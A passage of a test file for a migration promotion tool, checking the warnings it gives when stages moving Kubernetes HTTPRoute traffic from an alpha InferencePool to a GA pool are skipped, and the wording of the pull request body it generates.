    expect(skipWarning(planText, '03-finalize')).toMatch(/moves 100% of the requests of HTTPRoute default\/a and 25% of the requests of HTTPRoute default\/b off the alpha pool/);
  });

  test('given a skip after which every route still sends to the alpha pool, or a route with no pool, then there is no skip warning', () => {
    const planText = craftedPlan((stages) => {
      stages[0].routes = [route('kept', [[ALPHA, 'InferencePool', 1]]), route('svc', [['', 'Service', 1]])];
      stages[2].routes = [route('kept', [[ALPHA, 'InferencePool', 1], [GA, 'InferencePool', 1]]), route('svc', [['', 'Service', 1]])];
    });
    expect(skipWarning(planText, '03-finalize')).toBeUndefined();
    // And every warning there is is one of the stages applied, named by its folder
    const warnings = Promotion.promote({ appText: ARGO, planText, appFile: 'clusters/prod/llm.yaml', migrationDir: MIG, to: '03-finalize', skip: true }).warnings;
    expect(warnings.filter((w) => !/^0[23]-[a-z0-9-]+: /.test(w))).toEqual([]);
  });

  test('given a target stage that is not named cleanup but deletes an InferencePool, then the warning says it removes the alpha stack', () => {
    // Given 03-finalize renamed and deleting the alpha pool
    const planText = craftedPlan((stages) => {
      stages[2].name = 'switch';
      stages[2].changes.deleted = [{ apiVersion: `${ALPHA}/v1alpha2`, kind: 'InferencePool', namespace: 'default', name: 'vllm-llama3-8b-instruct-alpha' }];
    });
    // Then the warning says the stage removes the alpha stack and a rollback must bring it back
    expect(skipWarning(planText, '03-finalize')).toMatch(/off the alpha pool in one sync, and 03-finalize removes the alpha stack: no stage in between \(02-shift-50\) shows the GA pool carrying them, and a rollback must bring the alpha stack back first\. Promote stage by stage unless the GA pool is proven already$/);
  });

  test('given a target stage that deletes only other kinds and is not the cleanup, then no removal is claimed', () => {
    const planText = craftedPlan((stages) => {
      stages[2].changes.deleted = [{ apiVersion: 'v1', kind: 'ConfigMap', namespace: 'default', name: 'x' }];
    });
    expect(skipWarning(planText, '03-finalize')).toMatch(/off the alpha pool in one sync: no stage in between \(02-shift-50\) shows the GA pool carrying them\. Promote stage by stage/);
  });
});

describe('Promotion.promote: the active-stage record in the pull request', () => {
  test('given the record file, then the pull request says the stage is recorded there; without it, it names no record', () => {
    // Given a promotion that writes migrations/<m>/active-stage.json
    const withRecord = promote(ARGO, { recordFile: `${MIG}/active-stage.json` }).pullRequestBody;
    // Then the body's first paragraph names the record and the stage it records
    expect(withRecord).toContain(`This change edits only its \`spec.source.path\` (line 12), and records \`02-shift-50\` as the active stage in \`${MIG}/active-stage.json\` (listed in the output's marker), so that a later plan keeps it.`);
    // And without one, the paragraph ends after the line
    const without = promote(ARGO).pullRequestBody;
    expect(without).toContain('This change edits only its `spec.source.path` (line 12).');
    expect(without).not.toContain('active stage in');
  });
});
